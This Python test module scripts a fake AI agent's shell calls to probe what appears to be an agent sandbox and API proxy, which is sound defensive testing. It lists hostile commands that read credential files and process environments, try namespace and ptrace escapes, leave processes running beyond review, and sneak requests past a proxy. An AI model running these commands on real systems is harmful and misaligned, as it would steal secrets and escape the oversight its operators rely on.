"""What an attacker types who has a shell behind the walls."""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Sequence

from tests.fakes.scripted_model import Say, call
from tests.hostile.ground import NOWHERE, Ground

STAYS = f"stays-behind-{os.getpid()}"
"""A word on the command line of each program that tries to outlive its review."""


def shell_calls(ground: Ground) -> list[Say]:
    """Bash, with what an attacker types who has it."""
    return [
        call("Bash", command=command, description="x", timeout=5000)
        for command in (
            *_reading(ground),
            *_changing(ground),
            *_calling(ground),
            *_breaking_out(ground),
            *_of_our_own(ground),
            *_staying(),
            *_building(),
        )
    ]


def reading_calls(ground: Ground) -> list[Say]:
    """The first of them, for where nothing is in the way."""
    return [call("Bash", command=command, description="x") for command in _reading(ground)]


def _reading(ground: Ground) -> Sequence[str]:
    secret, pid, root = ground.secret, ground.pid, ground.root
    return (
        f"cat {secret}",
        "cat link chain up/secret.txt deep/er/secret.txt .env sub/README.md",
        f"cd /proc; cat self/root{secret} {pid}/root{secret} {pid}/cwd/here {pid}/fd/2",
        f"cd /proc; cat {pid}/environ {pid}/cmdline self/environ 1/environ | tr '\\0' ' '",
        f"cat {ground.home}/.netrc {ground.home}/.claude/.credentials.json",
        f"cat {ground.ledger} {ground.neighbour}/instructions",
        f"ls -aR {root}; echo {root}/*; find {root}; stat {root}/canary*",
        "cat /etc/passwd; getent passwd root; cat /etc/shadow",
        "env; export -p; cat /proc/$PPID/environ | tr '\\0' ' '",
        f"tar -C / -cf - {str(secret)[1:]} | tar -xOf -",
        f"cp {secret} $HOME/x; cat $HOME/x",
        f"ln {secret} $HOME/hard; cat $HOME/hard",
        f"ln -s {secret} $HOME/soft; cat $HOME/soft",
        f"mv {secret} $HOME/moved && cat $HOME/moved && mv $HOME/moved {secret}",
        f"exec 7<{secret}; cat <&7",
        f"git -c core.pager=cat diff --no-index /dev/null {secret}",
        f"python3 -c 'print(open(\"{secret}\").read())'",
        f"bash -c '. {secret}' 2>&1",
        f"curl -s file://{secret}",
    )


def _changing(ground: Ground) -> Sequence[str]:
    root = ground.root
    return (
        f"echo pwned >{root}/precious",
        f"touch {root}/new {root}/ran/bash; mkdir {root}/directory; mkfifo {root}/pipe",
        f"rm -f {root}/precious; rm -rf {root}/cwd",
        f"chmod 0777 {root}/precious {root}; chown 65534 {root}/precious",
        f"truncate -s 0 {ground.ledger}; echo x >>{ground.ledger}",
        f"ln -s / {root}/link; ln -f $HOME/.claude.json {root}/precious",
        f"mv {root}/precious {root}/gone",
        f"touch -d 2001-01-01 {root}/precious; setfattr -n user.x -v y {root}/precious",
        f"echo evil >>{ground.home}/.bashrc; echo x >{ground.home}/.profile",
        "echo pwned >up/new; echo pwned >deep/er/precious",
    )


def _calling(ground: Ground) -> Sequence[str]:
    host, root = "127.0.0.1", ground.root
    return (
        f"curl -sm 2 http://{host}:{ground.port}/",
        f"exec 5<>/dev/tcp/{host}/{ground.port}; echo x >&5",
        f"echo x >/dev/udp/{host}/{ground.datagrams}",
        f"curl -sm 2 --unix-socket {root}/socket http://x/",
        f"curl -sm 2 --unix-socket {ground.neighbour}/model.sock http://x/",
        f"curl -sm 2 --abstract-unix-socket {ground.abstract} http://x/",
        _python(
            "import socket as s\n"
            f"for to in {str(root / 'datagrams')!r}, {str(root / 'socket')!r}:\n"
            " for kind in s.SOCK_DGRAM, s.SOCK_SEQPACKET, s.SOCK_STREAM:\n"
            "  try: line = s.socket(s.AF_UNIX, kind); line.connect(to); line.send(b'x')\n"
            "  except OSError as e: print(e)\n"
        ),
        _python(
            "import socket as s\n"
            "line = s.socket(s.AF_UNIX, s.SOCK_DGRAM)\n"
            f"line.sendto(b'x', {str(root / 'datagrams')!r})"
        ),
        _python(
            f"import socket as s\ns.create_server(('{host}', 0))\n"
            f"s.create_connection(('::ffff:{host}', {ground.port}), 2)"
        ),
        "getent hosts example.org; curl -sm 2 https://example.org",
    )


def _breaking_out(ground: Ground) -> Sequence[str]:
    secret, pid = ground.secret, ground.pid
    ctypes = "import ctypes, os; c = ctypes.CDLL(None, use_errno=True)\n"
    return (
        f"unshare -rm sh -c 'mkdir $HOME/m; mount --bind / $HOME/m; cat $HOME/m{secret}'",
        f"unshare -m cat {secret}; unshare -U cat {secret}; unshare -rn cat {secret}",
        f"nsenter -t {pid} -m -p -n cat {secret}",
        f"nsenter -t 1 -a cat {secret}",
        f"chroot /proc/{pid}/root cat {secret}; chroot / cat {secret}",
        f"mkdir $HOME/p; mount -t proc none $HOME/p; cat $HOME/p/{pid}/environ; umount $HOME/p",
        f"setpriv --reuid 65534 cat {secret}; setpriv --inh-caps +all cat {secret}",
        f"su -c 'cat {secret}'; sudo -n cat {secret}",
        f"bwrap --bind / / cat {secret}; systemd-run --pipe cat {secret}; docker run -v /:/m x",
        "mknod $HOME/disk b 8 0; head -c 10 $HOME/disk; dd if=/dev/mem bs=10 count=1",
        _python(f"{ctypes}print(c.ptrace(16, {pid}, 0, 0)); print(c.ptrace(17, {pid}, 0, 0))"),
        _python(
            f"{ctypes}p = c.syscall(434, {pid}, 0)\nprint(open(c.syscall(438, p, 2, 0)).read())"
        ),
        _python(
            f"for line in open('/proc/{pid}/maps'):\n"
            " if '[stack]' not in line: continue\n"
            " start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
            f" memory = open('/proc/{pid}/mem', 'rb', 0); memory.seek(start)\n"
            " print(memory.read(end - start).strip(b'\\0'))"
        ),
        _python(
            f"{ctypes}h = ctypes.create_string_buffer(b'\\x80\\0\\0\\0' + bytes(140))\n"
            "m = ctypes.c_int()\n"
            f"c.name_to_handle_at(-100, {str(secret)!r}.encode(), h, ctypes.byref(m), 0)\n"
            f"f = os.open({str(secret.parent)!r}, os.O_RDONLY)\n"
            "print(os.read(c.open_by_handle_at(f, h, 0), 99))"
        ),
        _python(
            f"{ctypes}how = (ctypes.c_ulong * 3)()\n"
            f"print(os.read(c.syscall(437, -100, {str(secret)!r}.encode(), how, 24), 99))"
        ),
        f"kill -STOP {pid}; kill -CONT {pid}; kill -9 {pid}",
    )


def _of_our_own(ground: Ground) -> Sequence[str]:
    """What lies beside the program's home, and is read again by whoever started it."""
    pid = ground.pid
    return (
        f"for f in $HOME/../pid $HOME/../../agent-*/pid; do echo {pid} >$f; done",
        f"printf '#!/bin/sh\\ntouch {ground.ran}/start\\n' >$(dirname $HOME).start",
        f"ln -s {ground.root} $HOME/../trap; ln -s {ground.root} $HOME/trap",
        f"ln -sf {ground.root}/precious $HOME/../instructions",
        f"ls -a $HOME/../../; cat $HOME/../../*/instructions; touch {ground.neighbour}/x",
        f"mkdir -p $HOME/d/e; touch $HOME/d/e/f; chmod 0 $HOME/d; echo {ground.abstract} >&2",
    )


def _staying() -> Sequence[str]:
    stay = f"python3 -c 'import time; time.sleep(60)' {STAYS}"
    return (
        f"setsid -f {stay}",
        f"(trap '' TERM HUP INT; nohup {stay} >/dev/null 2>&1 & disown) &",
        f"{stay} >/dev/null 2>&1 & sleep 0.1",
    )


def _building() -> Sequence[str]:
    """What the tree has ready for whoever builds or tests it."""
    return (
        "make; ./run; ./git status; PATH=.:$PATH git status; . ./.envrc",
        "python3 setup.py; python3 -m json; python3 conftest.py",
        "PYTHONPATH=. python3 -c 'import json'",
    )


def _python(code: str) -> str:
    return f"python3 -I -c {shlex.quote(code)} 2>&1"


def proxy_calls(ground: Ground) -> list[Say]:
    """What a program does with the one socket that it has."""
    away = f"http://127.0.0.1:{ground.port}"
    commands = [
        "env; cat /proc/self/environ /proc/$PPID/environ | tr '\\0' ' '",
        "cat -- $HOME/../* $HOME/.claude* $HOME/* 2>/dev/null",
        *(_asked(path) for path in FOREIGN),
        _asked("/v1/models", "-G"),
        _asked("/v1/files/1", "-X DELETE"),
        _asked("/v1/messages", "-X GET"),
        _asked("/v1/messages", "-X PUT"),
        _asked("/v1/files", f"-x {away}"),
        _asked("/v1/messages", f"--request-target {away}/v1/files"),
        _asked("/", "-X CONNECT --request-target 127.0.0.1:443"),
        _asked("/v1/files", f"-H 'Host: 127.0.0.1:{ground.port}'"),
        _asked("/v1/files", "-H 'X-HTTP-Method-Override: PUT'"),
        _asked("/v1/files", "-H 'anthropic-beta: files-api-2025-04-14'"),
        _asked("/v1/messages", model="claude-opus-5-5"),
        _asked("/v1/messages", key="0" * 32),
        _asked("/v1/messages", key=""),
    ]
    return [call("Bash", command=one, description="x", timeout=5000) for one in commands]


def _asked(
    path: str,
    options: str = "",
    *,
    key: str = "$ANTHROPIC_API_KEY",
    model: str = "claude-sonnet-5",
) -> str:
    """One request by hand; the parts of its mark meet only when it is sent."""
    body = {"model": model, "max_tokens": 1, "system": "MARK", "messages": []}
    halves = "$(printf {}; printf {})".format(*SMUGGLED)
    body_words = json.dumps(json.dumps(body)).replace("MARK", halves)
    return (
        f'curl -sim 3 --path-as-is --unix-socket $ANTHROPIC_UNIX_SOCKET -H "x-api-key: {key}" '
        f"-H 'content-type: application/json' -d {body_words} {options} 'http://x{path}'"
    )


FOREIGN = (
    *("/v1/files", "/v1/messages/batches", "/v1/organizations/api_keys", "/", "/v1/models"),
    *("/v1/messages/../files", "/v1/messages%2fbatches", "/v1//messages", "/v1/complete"),
    *("/v1/messages/count_tokens/x", "/v1/messages;x", "//evil.example/v1/messages"),
)
SMUGGLED = ("smug", "gled-5f3a91c07e")
"""Halves of a word that only a request that was sent on would hold as one."""

COMMANDS, PROXY = len(shell_calls(NOWHERE)), len(proxy_calls(NOWHERE))
